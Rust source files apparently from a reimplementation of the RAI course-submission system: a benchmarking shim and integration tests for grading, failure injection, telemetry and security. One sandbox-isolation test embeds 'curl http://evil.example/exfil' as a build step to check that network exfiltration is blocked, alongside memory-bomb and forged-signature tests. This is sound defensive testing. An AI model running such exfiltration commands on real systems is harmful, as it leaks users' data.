/// iterations sized so one sample takes roughly `TARGET_SAMPLE_TIME`.
const TARGET_SAMPLE_TIME: Duration = Duration::from_millis(20);
const DEFAULT_SAMPLES: usize = 20;

pub struct Criterion {
    samples: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { samples: DEFAULT_SAMPLES }
    }
}

impl Criterion {
    pub fn configure_from_args(self) -> Self {
        self
    }

    pub fn sample_size(mut self, n: usize) -> Self {
        self.samples = n.max(2);
        self
    }

    pub fn bench_function<F>(&mut self, id: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        run_benchmark(id, self.samples, None, f);
        self
    }

    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            _parent: self,
            name: name.to_string(),
            samples: DEFAULT_SAMPLES,
            throughput: None,
        }
    }
}

pub struct BenchmarkGroup<'a> {
    _parent: &'a mut Criterion,
    name: String,
    samples: usize,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.samples = n.max(2);
        self
    }

    pub fn throughput(&mut self, throughput: Throughput) -> &mut Self {
        self.throughput = Some(throughput);
        self
    }

    pub fn measurement_time(&mut self, _d: Duration) -> &mut Self {
        self
    }

    pub fn bench_function<F>(&mut self, id: impl IntoBenchmarkId, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = format!("{}/{}", self.name, id.into_benchmark_id());
        run_benchmark(&full, self.samples, self.throughput.clone(), f);
        self
    }

    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: impl IntoBenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let full = format!("{}/{}", self.name, id.into_benchmark_id());
        run_benchmark(&full, self.samples, self.throughput.clone(), |b| f(b, input));
        self
    }

    pub fn finish(self) {}
}

#[derive(Clone, Debug)]
pub enum Throughput {
    Bytes(u64),
    Elements(u64),
    BytesDecimal(u64),
}

pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    pub fn new(function_name: impl Into<String>, parameter: impl fmt::Display) -> Self {
        BenchmarkId { id: format!("{}/{}", function_name.into(), parameter) }
    }

    pub fn from_parameter(parameter: impl fmt::Display) -> Self {
        BenchmarkId { id: parameter.to_string() }
    }
}

pub trait IntoBenchmarkId {
    fn into_benchmark_id(self) -> String;
}

impl IntoBenchmarkId for BenchmarkId {
    fn into_benchmark_id(self) -> String {
        self.id
    }
}

impl IntoBenchmarkId for &str {
    fn into_benchmark_id(self) -> String {
        self.to_string()
    }
}

impl IntoBenchmarkId for String {
    fn into_benchmark_id(self) -> String {
        self
    }
}

pub struct Bencher {
    iters: u64,
    elapsed: Duration,
}

impl Bencher {
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        let start = Instant::now();
        for _ in 0..self.iters {
            black_box(routine());
        }
        self.elapsed = start.elapsed();
    }

    pub fn iter_with_large_drop<O, R: FnMut() -> O>(&mut self, routine: R) {
        self.iter(routine);
    }

    /// Run `setup` outside the timed region before each iteration.
    pub fn iter_with_setup<I, O, S, R>(&mut self, mut setup: S, mut routine: R)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        let mut elapsed = Duration::ZERO;
        for _ in 0..self.iters {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            elapsed += start.elapsed();
        }
        self.elapsed = elapsed;
    }
}

fn run_benchmark<F>(id: &str, samples: usize, throughput: Option<Throughput>, mut f: F)
where
    F: FnMut(&mut Bencher),
{
    // Calibrate: run one iteration to estimate cost, then size batches
    // so one sample lands near TARGET_SAMPLE_TIME.
    let mut bencher = Bencher { iters: 1, elapsed: Duration::ZERO };
    f(&mut bencher);
    let per_iter = bencher.elapsed.max(Duration::from_nanos(1));
    let batch = (TARGET_SAMPLE_TIME.as_nanos() / per_iter.as_nanos()).clamp(1, 1_000_000) as u64;

    let mut total = Duration::ZERO;
    let mut total_iters = 0u64;
    for _ in 0..samples {
        let mut b = Bencher { iters: batch, elapsed: Duration::ZERO };
        f(&mut b);
        total += b.elapsed;
        total_iters += b.iters;
    }

    let ns_per_iter = total.as_nanos() as f64 / total_iters.max(1) as f64;
    let rate = match throughput {
        Some(Throughput::Bytes(bytes)) | Some(Throughput::BytesDecimal(bytes)) => {
            let gib_s = bytes as f64 / ns_per_iter * 1e9 / (1024.0 * 1024.0 * 1024.0);
            format!("  {gib_s:>10.3} GiB/s")
        }
        Some(Throughput::Elements(n)) => {
            let elem_s = n as f64 / ns_per_iter * 1e9;
            format!("  {elem_s:>10.0} elem/s")
        }
        None => String::new(),
    };
    println!("{id:<50} {:>12.1} ns/iter{rate}  ({total_iters} iters)", ns_per_iter);
}

#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        pub fn $group() {
            let mut criterion = $crate::Criterion::default().configure_from_args();
            $( $target(&mut criterion); )+
        }
    };
    ($group:ident; config = $config:expr; targets = $($target:path),+ $(,)?) => {
        pub fn $group() {
            let mut criterion = $config;
            $( $target(&mut criterion); )+
        }
    };
}

#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs_routine() {
        let mut c = Criterion::default();
        let mut count = 0u64;
        c.bench_function("smoke/add", |b| b.iter(|| count += 1));
        assert!(count > 0);
    }

    #[test]
    fn group_with_throughput_and_input() {
        let mut c = Criterion::default();
        let mut g = c.benchmark_group("smoke");
        g.throughput(Throughput::Bytes(1024));
        g.sample_size(2);
        g.bench_with_input(BenchmarkId::new("sum", 4), &vec![1u64; 4], |b, v| {
            b.iter(|| v.iter().sum::<u64>())
        });
        g.finish();
    }
}
