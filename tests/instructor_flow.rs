//! The instructor's end-of-term pipeline across crates: roster → keys →
//! registration → student finals → bulk download → re-run → grades.

use rai::auth::{render_key_email, Credentials, KeyGenerator, Roster};
use rai::core::client::ProjectDir;
use rai::core::grading::Grader;
use rai::core::system::{RaiSystem, SystemConfig};

#[test]
fn roster_to_grades() {
    // 1. Roster and keys.
    let roster = Roster::parse("A,One,a1\nB,Two,b2\nC,Three,c3\n").unwrap();
    let mut keygen = KeyGenerator::from_seed(1234);
    let mut sys = RaiSystem::new(SystemConfig {
        rate_limit: None,
        ..Default::default()
    });

    // 2. Each student gets an e-mail whose embedded profile actually
    //    authenticates against the live system.
    let mut team_creds: Vec<Credentials> = Vec::new();
    for entry in &roster.entries {
        let creds = keygen.generate(&entry.user_id);
        let mail = render_key_email(entry, &creds, "illinois.edu");
        let parsed = Credentials::from_profile(&mail.body).expect("e-mail embeds the profile");
        assert_eq!(parsed, creds);
        sys.registry().write().register(creds.clone());
        team_creds.push(creds);
    }

    // 3. Students submit finals with different performance levels.
    let speeds = [450.0, 900.0, 2_000.0];
    for (creds, full_ms) in team_creds.iter().zip(speeds) {
        let project = ProjectDir::cuda_project_with_perf(full_ms, 0.92, 1024).with_final_artifacts();
        // register_team wasn't used, so add the team record by hand via
        // the DB to mirror the staff tooling.
        let receipt = sys.submit_final(creds, &project).expect("final accepted");
        assert!(receipt.success);
    }

    // 4. Download, validate, re-run, grade.
    let grader = Grader::new(sys.db().clone(), sys.store().clone(), sys.images().clone());
    let submissions = grader.download_final_submissions();
    assert_eq!(submissions.len(), 3);
    let mut totals = Vec::new();
    for sub in &submissions {
        let mut tree = sub.tree.clone();
        let removed = Grader::clean_submission(&mut tree);
        assert!(removed > 0, "make intermediates should be cleaned");
        let code = sub.tree.subtree("submission_code");
        assert!(Grader::check_required_files(&code).complete());
        let best = grader.rerun_min_time(&code, 3, 9).expect("re-runs succeed");
        // Re-run timing is consistent with the recorded timing (within
        // contention noise).
        assert!(
            (best - sub.recorded_secs).abs() / sub.recorded_secs < 0.2,
            "recorded {} vs rerun {best}",
            sub.recorded_secs
        );
        let report = grader.grade(&sub.team, best, 0.92, 0.90, 0.6, 60.0, 8.0, 32.0);
        totals.push((sub.team.clone(), report.total()));
    }
    // Faster teams earn at least as much as slower ones.
    let by_speed: Vec<f64> = sys
        .rankings()
        .standings()
        .iter()
        .map(|(team, _)| totals.iter().find(|(t, _)| t == team).unwrap().1)
        .collect();
    for w in by_speed.windows(2) {
        assert!(w[0] >= w[1], "grades should not increase with runtime: {by_speed:?}");
    }
}

#[test]
fn revoked_student_cannot_submit() {
    let mut sys = RaiSystem::new(SystemConfig {
        rate_limit: None,
        ..Default::default()
    });
    let creds = sys.register_team("dropped", &[]);
    // Drops the course: staff revokes the key.
    sys.registry().write().revoke(&creds.access_key);
    let receipt = sys.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap();
    assert!(!receipt.success);
    assert!(receipt.log.iter().any(|l| l.contains("authentication failed")));
}
