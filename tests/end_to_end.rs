//! Cross-crate integration: the full student lifecycle and the security
//! posture the paper's design promises.

use rai::auth::sign_request;
use rai::core::client::{ProjectDir, SubmitError, SubmitMode};
use rai::core::protocol::{JobKind, JobRequest};
use rai::core::system::{RaiSystem, SystemConfig};
use rai::db::doc;

fn system() -> RaiSystem {
    RaiSystem::new(SystemConfig {
        rate_limit: None,
        ..Default::default()
    })
}

#[test]
fn student_lifecycle_run_then_final() {
    let mut sys = system();
    let creds = sys.register_team("lifecycle", &["a", "b"]);

    // Iterate: a broken build first.
    let mut broken = ProjectDir::sample_cuda_project();
    broken.tree.insert("main.cu", &b"RAI_SYNTAX_ERROR"[..]).unwrap();
    let r1 = sys.submit(&creds, &broken).unwrap();
    assert!(!r1.success);
    assert!(r1.log.iter().any(|l| l.contains("error:")));

    // Fix it, run again.
    let fixed = ProjectDir::sample_cuda_project();
    let r2 = sys.submit(&creds, &fixed).unwrap();
    assert!(r2.success);
    // The dev run used the small dataset: fast.
    assert!(r2.internal_timer_secs.unwrap() < 0.2);

    // Final submission without required files is rejected client-side.
    match sys.submit_final(&creds, &fixed) {
        Err(SubmitError::MissingRequiredFile("USAGE")) => {}
        other => panic!("expected missing USAGE, got {other:?}"),
    }

    // With the report attached it lands on the leaderboard.
    let r3 = sys.submit_final(&creds, &fixed.with_final_artifacts()).unwrap();
    assert!(r3.success);
    assert_eq!(sys.rankings().rank_of("lifecycle"), Some(1));

    // Database has all three submissions, one ranking row.
    assert_eq!(sys.db().collection("submissions").read().len(), 3);
    assert_eq!(sys.db().collection("rankings").read().len(), 1);
    // The failed build is recorded as unsuccessful.
    assert_eq!(
        sys.db()
            .collection("submissions")
            .read()
            .count(&doc! { "success" => false }),
        1
    );
}

#[test]
fn forged_signature_is_rejected_by_workers() {
    let mut sys = system();
    let creds = sys.register_team("honest", &[]);
    let client = sys.client_for(&creds);
    let pending = client
        .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
        .unwrap();
    let job_id = pending.job_id;

    // An attacker replays the job message with a doctored team name but
    // cannot re-sign it.
    let stored = sys
        .store()
        .list("rai-uploads", "")
        .unwrap()
        .into_iter()
        .next()
        .unwrap();
    let mut forged = JobRequest {
        job_id: job_id + 1000,
        access_key: creds.access_key.clone(),
        signature: "0".repeat(64),
        team: "attacker".to_string(),
        upload_bucket: "rai-uploads".to_string(),
        upload_key: stored.key,
        build_yml: rai::core::spec::DEFAULT_BUILD_YML.to_string(),
        kind: JobKind::Submit,
    };
    // Even a *valid-format* signature under the wrong key fails.
    forged.signature = sign_request("not-the-secret", &creds.access_key, &forged.signing_payload());
    sys.broker()
        .publish(rai::core::protocol::routes::TASK_TOPIC, forged.encode())
        .unwrap();

    let outcomes = sys.drain();
    assert_eq!(outcomes.len(), 2);
    let legit = outcomes.iter().find(|o| o.job_id == job_id).unwrap();
    let attack = outcomes.iter().find(|o| o.job_id != job_id).unwrap();
    assert!(legit.success);
    assert!(!attack.success, "forged job must be rejected");
    // The attack never reached the ranking table.
    assert_eq!(sys.db().collection("rankings").read().len(), 0);
}

#[test]
fn container_isolation_blocks_abuse() {
    let mut sys = system();
    let creds = sys.register_team("abuser", &[]);

    // Network exfiltration attempt.
    let mut netcat = ProjectDir::sample_cuda_project();
    netcat
        .tree
        .insert(
            "rai-build.yml",
            &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n    - curl http://evil.example/exfil\n"[..],
        )
        .unwrap();
    let r = sys.submit(&creds, &netcat).unwrap();
    assert!(!r.success);
    assert!(r.log.iter().any(|l| l.contains("network access is disabled")));

    // Memory bomb: 9 GB against the 8 GB cap.
    let bomb = ProjectDir::cuda_project_with_perf(100.0, 0.9, 9_000);
    let r = sys.submit(&creds, &bomb).unwrap();
    assert!(!r.success);
    assert!(r.log.iter().any(|l| l.contains("Killed")));

    // Sleep forever: the 1-hour lifetime kills it.
    let mut sleeper = ProjectDir::sample_cuda_project();
    sleeper
        .tree
        .insert(
            "rai-build.yml",
            &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n    - sleep 999999\n"[..],
        )
        .unwrap();
    let r = sys.submit(&creds, &sleeper).unwrap();
    assert!(!r.success);
}

#[test]
fn build_outputs_round_trip_through_file_server() {
    let mut sys = system();
    let creds = sys.register_team("artifacts", &[]);
    let receipt = sys.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap();
    assert!(receipt.success);
    // Download the /build archive via the presigned URL the worker
    // published — no file-server credentials needed.
    let url = receipt.build_url.expect("worker published a build URL");
    assert!(url.starts_with("rai-s3://rai-builds/"));
    let obj = sys.store().get_presigned(&url).expect("presigned URL valid");
    let tree = rai::archive::restore(&obj.data).expect("archive valid");
    // The nvprof timeline the default build produces is in there.
    assert!(tree.contains("timeline.nvprof"));
    assert!(tree.contains("ece408"));
    assert!(tree.contains("Makefile"));
}

#[test]
fn student_build_file_with_block_scalar_and_chains() {
    // A power user's rai-build.yml: a literal block scalar holding a
    // chained one-liner, plus text-tool steps.
    let mut sys = system();
    let creds = sys.register_team("power-user", &[]);
    let mut project = ProjectDir::sample_cuda_project();
    project
        .tree
        .insert(
            "rai-build.yml",
            &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n    - |-\n      echo \"one-liner build\" && cmake /src && make\n    - grep global /src/main.cu\n    - ./ece408 /data/test10.hdf5 /data/model.hdf5\n"[..],
        )
        .unwrap();
    let receipt = sys.submit(&creds, &project).unwrap();
    assert!(receipt.success, "log: {:#?}", receipt.log);
    assert!(receipt.log.iter().any(|l| l.contains("one-liner build")));
    assert!(receipt.log.iter().any(|l| l.contains("__global__")));
    assert!(receipt.internal_timer_secs.is_some());
}

#[test]
fn leaderboard_is_anonymized_between_teams() {
    let mut sys = system();
    for (team, ms) in [("one", 500.0), ("two", 800.0)] {
        let creds = sys.register_team(team, &[]);
        let p = ProjectDir::cuda_project_with_perf(ms, 0.9, 1024).with_final_artifacts();
        sys.submit_final(&creds, &p).unwrap();
    }
    let view = sys.rankings().view_for("two");
    assert_eq!(view.len(), 2);
    assert!(view[0].display_name.starts_with("anonymous-"));
    assert_eq!(view[1].display_name, "two");
    // Times are still visible (the paper shows anonymized runtimes).
    assert!(view[0].runtime_secs < view[1].runtime_secs);
}
