//! Failure injection across the distributed pipeline: a crashed worker,
//! a flaky file server, replayed and malformed queue messages. The
//! paper's §V requirement: "since RAI is a distributed architecture,
//! these operations need to happen in order and be robust to failures."

use rai::broker::RecvError;
use rai::core::client::{ProjectDir, SubmitMode};
use rai::core::protocol::routes;
use rai::core::system::{RaiSystem, SystemConfig};
use std::time::Duration;

fn system() -> RaiSystem {
    RaiSystem::new(SystemConfig {
        rate_limit: None,
        ..Default::default()
    })
}

#[test]
fn crashed_worker_job_is_redelivered() {
    let mut sys = system();
    let creds = sys.register_team("resilient", &[]);
    let client = sys.client_for(&creds);
    let pending = client
        .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
        .unwrap();

    // A "worker" takes the job off the queue and dies before acking.
    {
        let doomed = sys.broker().subscribe(routes::TASK_TOPIC, routes::TASK_CHANNEL);
        let msg = doomed.try_recv().expect("job queued");
        assert_eq!(msg.attempts, 1);
        drop(doomed); // crash: subscription dropped without ack
    }

    // A healthy worker picks the redelivered message up and completes it.
    let outcomes = sys.drain();
    assert_eq!(outcomes.len(), 1);
    assert!(outcomes[0].success);
    let receipt = pending.wait(Duration::from_millis(500)).unwrap();
    assert!(receipt.success);
}

#[test]
fn file_server_outage_fails_job_without_wedging_the_queue() {
    let mut sys = system();
    let creds = sys.register_team("unlucky", &[]);
    let client = sys.client_for(&creds);
    let pending = client
        .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
        .unwrap();

    // The file server 503s for longer than the worker's retry budget
    // (4 attempts with sim-time backoff), so the fetch fails for real.
    sys.store().inject_faults(4);
    let outcomes = sys.drain();
    assert_eq!(outcomes.len(), 1);
    assert!(!outcomes[0].success, "job fails cleanly");
    let receipt = pending.wait(Duration::from_millis(500)).unwrap();
    assert!(!receipt.success);
    assert!(receipt
        .log
        .iter()
        .any(|l| l.contains("failed to fetch project")));

    // The next submission works: no stuck state.
    let receipt = sys.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap();
    assert!(receipt.success);
}

#[test]
fn brief_file_server_blip_is_retried_transparently() {
    let mut sys = system();
    let creds = sys.register_team("lucky", &[]);
    let client = sys.client_for(&creds);
    let pending = client
        .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
        .unwrap();

    // A single 503 sits within the worker's retry budget: the job
    // succeeds, paying only backoff in sim time.
    sys.store().inject_faults(1);
    let outcomes = sys.drain();
    assert_eq!(outcomes.len(), 1);
    assert!(outcomes[0].success, "one 503 is absorbed by retry");
    assert!(pending.wait(Duration::from_millis(500)).unwrap().success);
}

#[test]
fn garbage_on_task_queue_does_not_block_real_jobs() {
    let mut sys = system();
    let creds = sys.register_team("team", &[]);
    // Garbage before and after a real job.
    sys.broker()
        .publish(routes::TASK_TOPIC, &b"\xFF\xFEnot yaml at all"[..])
        .unwrap();
    let client = sys.client_for(&creds);
    let pending = client
        .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
        .unwrap();
    sys.broker()
        .publish(routes::TASK_TOPIC, &b"job_id: 1\n"[..]) // missing fields
        .unwrap();

    let outcomes = sys.drain();
    // Only the real job produced an outcome; garbage was dropped.
    assert_eq!(outcomes.len(), 1);
    assert!(outcomes[0].success);
    assert!(pending.wait(Duration::from_millis(500)).unwrap().success);
    // Queue fully drained: nothing ready, nothing in flight.
    let stats = sys.broker().topic_stats(routes::TASK_TOPIC).unwrap();
    assert_eq!(stats.depth, 0);
    assert_eq!(stats.in_flight, 0);
}

#[test]
fn replayed_job_message_executes_but_cannot_double_rank() {
    let mut sys = system();
    let creds = sys.register_team("replay", &[]);
    let client = sys.client_for(&creds);
    let project = ProjectDir::sample_cuda_project().with_final_artifacts();
    // The spy channel must exist before publish to receive its copy.
    let spy = sys.broker().subscribe(routes::TASK_TOPIC, "spy-channel");
    let pending = client.begin_submit(&project, SubmitMode::Submit).unwrap();

    // Capture and replay the exact job message (a valid signature!).
    let replayed = {
        // The spy channel gets its own copy; the original stays on tasks.
        let msg = spy.recv_timeout(Duration::from_millis(200)).unwrap();
        spy.ack(msg.id);
        msg.body
    };
    drop(spy);

    let outcomes = sys.drain();
    assert!(outcomes.iter().all(|o| o.success));
    assert!(pending.wait(Duration::from_millis(500)).unwrap().success);

    // Replay the message verbatim.
    sys.broker().publish(routes::TASK_TOPIC, replayed).unwrap();
    let outcomes = sys.drain();
    assert_eq!(outcomes.len(), 1);
    // Replay still verifies (same bytes) and runs, but the ranking table
    // keeps one row per team — the overwrite semantics make replays
    // idempotent rather than rank-inflating.
    assert_eq!(sys.db().collection("rankings").read().len(), 1);
    assert_eq!(sys.rankings().standings().len(), 1);
}

#[test]
fn client_timeout_when_no_workers_exist() {
    // A deployment whose workers never poll (we just don't drive them).
    let sys = system();
    let mut sys = sys;
    let creds = sys.register_team("stranded", &[]);
    let client = sys.client_for(&creds);
    let pending = client
        .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
        .unwrap();
    // Without drive_until, nobody processes the job: the client times out
    // rather than hanging forever.
    let err = pending.wait(Duration::from_millis(50)).unwrap_err();
    assert!(matches!(err, rai::core::client::SubmitError::Timeout));
}

#[test]
fn broker_closed_channel_reports_to_consumer() {
    let sys = system();
    let sub = sys.broker().subscribe("doomed-topic", "ch");
    assert!(sys.broker().delete_topic("doomed-topic"));
    assert_eq!(
        sub.recv_timeout(Duration::from_millis(50)),
        Err(RecvError::Closed)
    );
}
