//! Live-mode soak: real OS threads for workers and clients sharing one
//! broker/store/database, the way an actual deployment runs (the
//! discrete-event semester drives the same components single-threaded).

use parking_lot::RwLock;
use rai::auth::{CredentialRegistry, KeyGenerator};
use rai::broker::Broker;
use rai::core::client::{ProjectDir, RaiClient, SubmitMode, BUILD_BUCKET, UPLOAD_BUCKET};
use rai::core::worker::{Worker, WorkerConfig};
use rai::db::{doc, Database};
use rai::sandbox::ImageRegistry;
use rai::sim::VirtualClock;
use rai::store::{LifecycleRule, ObjectStore};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

const CLIENTS: usize = 4;
const JOBS_PER_CLIENT: usize = 6;
const WORKERS: usize = 3;

#[test]
fn threaded_workers_and_clients() {
    let broker = Broker::default();
    let store = ObjectStore::new(VirtualClock::new());
    store
        .create_bucket(UPLOAD_BUCKET, LifecycleRule::one_month_after_last_use())
        .expect("fresh store");
    store
        .create_bucket(BUILD_BUCKET, LifecycleRule::Keep)
        .expect("fresh store");
    let db = Database::new();
    let registry = Arc::new(RwLock::new(CredentialRegistry::new()));
    let images = Arc::new(ImageRegistry::course_default());
    let next_job_id = Arc::new(AtomicU64::new(1));

    // Issue credentials for every client team up front.
    let mut keygen = KeyGenerator::from_seed(404);
    let creds: Vec<_> = (0..CLIENTS)
        .map(|i| {
            let c = keygen.generate(&format!("live-team-{i}"));
            registry.write().register(c.clone());
            c
        })
        .collect();

    // Worker threads: poll until told to stop.
    let stop = Arc::new(AtomicBool::new(false));
    let mut worker_handles = Vec::new();
    for w in 0..WORKERS {
        let mut worker = Worker::new(
            WorkerConfig {
                worker_id: format!("live-worker-{w}"),
                noise_seed: w as u64,
                ..Default::default()
            },
            broker.clone(),
            store.clone(),
            db.clone(),
            registry.clone(),
            images.clone(),
        );
        let stop = stop.clone();
        worker_handles.push(std::thread::spawn(move || {
            let mut processed = 0u64;
            while !stop.load(Ordering::Relaxed) {
                match worker.step() {
                    Some(_) => processed += 1,
                    None => std::thread::sleep(Duration::from_millis(1)),
                }
            }
            processed
        }));
    }

    // Client threads: submit and wait for each receipt.
    let mut client_handles = Vec::new();
    for creds in creds {
        let client = RaiClient::new(
            creds.clone(),
            &creds.user_name,
            broker.clone(),
            store.clone(),
            next_job_id.clone(),
        );
        client_handles.push(std::thread::spawn(move || {
            let mut ok = 0;
            for _ in 0..JOBS_PER_CLIENT {
                let pending = client
                    .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
                    .expect("submit starts");
                let receipt = pending.wait(Duration::from_secs(30)).expect("job completes");
                assert!(receipt.success, "log: {:#?}", receipt.log);
                assert!(receipt.build_url.is_some());
                ok += 1;
            }
            ok
        }));
    }

    let total_ok: usize = client_handles.into_iter().map(|h| h.join().expect("client thread")).sum();
    stop.store(true, Ordering::Relaxed);
    let total_processed: u64 = worker_handles
        .into_iter()
        .map(|h| h.join().expect("worker thread"))
        .sum();

    assert_eq!(total_ok, CLIENTS * JOBS_PER_CLIENT);
    assert_eq!(total_processed as usize, CLIENTS * JOBS_PER_CLIENT);
    // Every job recorded exactly once; queue fully drained.
    assert_eq!(
        db.collection("submissions").read().count(&doc! {}),
        CLIENTS * JOBS_PER_CLIENT
    );
    let stats = broker.topic_stats("rai").expect("task topic");
    assert_eq!(stats.depth, 0);
    assert_eq!(stats.in_flight, 0);
    // Uploads + build outputs both landed.
    assert_eq!(store.usage().puts, 2 * (CLIENTS * JOBS_PER_CLIENT) as u64);
}
