//! Whole-semester simulation invariants: conservation of submissions
//! across the pipeline's independent ledgers (timeline, database, file
//! server, broker).

use rai::db::doc;
use rai::workload::semester::run_semester;
use rai::workload::SemesterConfig;

#[test]
fn ledgers_agree_across_subsystems() {
    let result = run_semester(&SemesterConfig::scaled(5, 7, 21));
    let n = result.total_submissions;
    assert!(n > 30, "enough traffic to be meaningful, got {n}");

    // Timeline counted every submission exactly once.
    assert_eq!(result.full_timeline.total(), n);

    // The store saw one project upload and one build upload per job,
    // plus nothing else.
    assert_eq!(result.store.puts, 2 * n);
    // Everything uploaded was also downloaded once by a worker.
    assert_eq!(result.store.gets, n);

    // Every team got a final ranking.
    assert_eq!(result.final_standings.len(), 5);
    // Standings are sorted.
    for w in result.final_standings.windows(2) {
        assert!(w[0].1 <= w[1].1);
    }

    // No failures in a healthy class.
    assert_eq!(result.failures, 0);
}

#[test]
fn database_records_match_simulation_totals() {
    // Run a tiny semester and cross-check the DB via a fresh run that
    // exposes the system: easiest is to re-derive from the result—the
    // submissions ledger is internal, so use window/total consistency.
    let result = run_semester(&SemesterConfig::scaled(4, 6, 33));
    assert_eq!(
        result.window_timeline.total(),
        result.window_submissions,
        "window ledger is self-consistent"
    );
    assert!(result.window_submissions <= result.total_submissions);
    // Cost is positive whenever a fleet existed.
    assert!(result.cost_cents > 0);
}

#[test]
fn seeds_reproduce_and_differ() {
    let a = run_semester(&SemesterConfig::scaled(4, 5, 77));
    let b = run_semester(&SemesterConfig::scaled(4, 5, 77));
    assert_eq!(a.total_submissions, b.total_submissions, "same seed, same run");
    assert_eq!(a.final_standings, b.final_standings);
    let c = run_semester(&SemesterConfig::scaled(4, 5, 78));
    assert_ne!(
        (a.total_submissions, a.final_standings.clone()),
        (c.total_submissions, c.final_standings.clone()),
        "different seed, different semester"
    );
}

#[test]
fn submissions_collection_schema() {
    // Verify DB rows written during an end-to-end run have the fields
    // grading depends on.
    use rai::core::client::ProjectDir;
    use rai::core::system::{RaiSystem, SystemConfig};
    let mut sys = RaiSystem::new(SystemConfig {
        rate_limit: None,
        ..Default::default()
    });
    let creds = sys.register_team("schema", &[]);
    sys.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap();
    let coll = sys.db().collection("submissions");
    let row = coll.read().find_one(&doc! { "team" => "schema" }).unwrap();
    for field in ["job_id", "user", "kind", "success", "wall_secs", "worker", "upload_key"] {
        assert!(row.get(field).is_some(), "missing field {field}: {row}");
    }
}
