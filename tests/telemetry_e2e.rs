//! End-to-end telemetry: drive real submissions through a deployment
//! and check that the job traces, registry snapshot, and both
//! exposition formats reflect what happened.

use rai::core::client::ProjectDir;
use rai::core::system::{RaiSystem, SystemConfig};
use rai::telemetry::{names, parse_json_snapshot, parse_prometheus, stage};

fn driven_system(jobs: usize) -> (RaiSystem, Vec<u64>) {
    let mut system = RaiSystem::new(SystemConfig {
        workers: 2,
        rate_limit: None,
        ..Default::default()
    });
    let creds = system.register_team("observed", &["ada"]);
    let mut job_ids = Vec::new();
    for _ in 0..jobs {
        let receipt = system
            .submit(&creds, &ProjectDir::sample_cuda_project())
            .expect("submission should succeed");
        assert!(receipt.success);
        job_ids.push(receipt.job_id);
    }
    (system, job_ids)
}

#[test]
fn job_traces_are_monotone_and_complete() {
    let (system, job_ids) = driven_system(3);
    for job_id in job_ids {
        let trace = system
            .telemetry()
            .job_trace(job_id)
            .expect("every job is traced");
        assert!(trace.is_monotone(), "stages out of order: {trace:?}");
        for name in [
            stage::SUBMITTED,
            stage::ENQUEUED,
            stage::DEQUEUED,
            stage::FETCHED,
            stage::BUILT,
            stage::RAN,
            stage::UPLOADED,
            stage::GRADED,
        ] {
            assert!(
                trace.stage_time(name).is_some(),
                "job {} missing stage {name}",
                trace.job_id
            );
        }
        assert!(trace.total_duration() > rai::sim::SimDuration::ZERO);
    }
}

#[test]
fn report_metrics_are_populated() {
    let (system, _) = driven_system(3);
    let metrics = system.report().metrics;

    assert_eq!(metrics.counter_total(names::JOBS_TOTAL), 3);
    assert!(!metrics.histograms_named(names::JOB_STAGE_SECONDS).is_empty());
    assert!(!metrics.histograms_named(names::JOB_TOTAL_SECONDS).is_empty());
    // Worker concurrency gauges exist for the fleet (back to 0 when idle).
    assert!(!metrics.gauges_named(names::WORKER_ACTIVE_JOBS).is_empty());
    // Broker mirror: everything published was consumed, depth gauge at 0.
    assert_eq!(metrics.gauge(names::BROKER_QUEUE_DEPTH, &[]), Some(0.0));
    assert!(metrics.counter(names::BROKER_PUBLISHED_TOTAL, &[]).unwrap() >= 3);
    // Store and db mirrors counted traffic.
    assert!(metrics.counter(names::STORE_BYTES_UPLOADED_TOTAL, &[]).unwrap() > 0);
    assert!(metrics.counter(names::DB_INSERTS_TOTAL, &[]).unwrap() > 0);
}

#[test]
fn prometheus_exposition_parses_and_matches() {
    let (system, _) = driven_system(2);
    let metrics = system.report().metrics;
    let text = rai::telemetry::render_prometheus(&metrics);

    let samples = parse_prometheus(&text).expect("exposition must parse");
    assert!(!samples.is_empty());
    let jobs: f64 = samples
        .iter()
        .filter(|s| s.name == names::JOBS_TOTAL)
        .map(|s| s.value)
        .sum();
    assert_eq!(jobs, 2.0);
    // Histogram series carry cumulative buckets plus _sum/_count.
    assert!(samples.iter().any(|s| s.name == format!("{}_count", names::JOB_STAGE_SECONDS)));
    assert!(samples
        .iter()
        .any(|s| s.labels.iter().any(|(k, _)| k == "le")));
}

#[test]
fn json_exposition_round_trips() {
    let (system, _) = driven_system(2);
    let metrics = system.report().metrics;
    let text = rai::telemetry::render_json(&metrics);

    let parsed = parse_json_snapshot(&text).expect("JSON must parse");
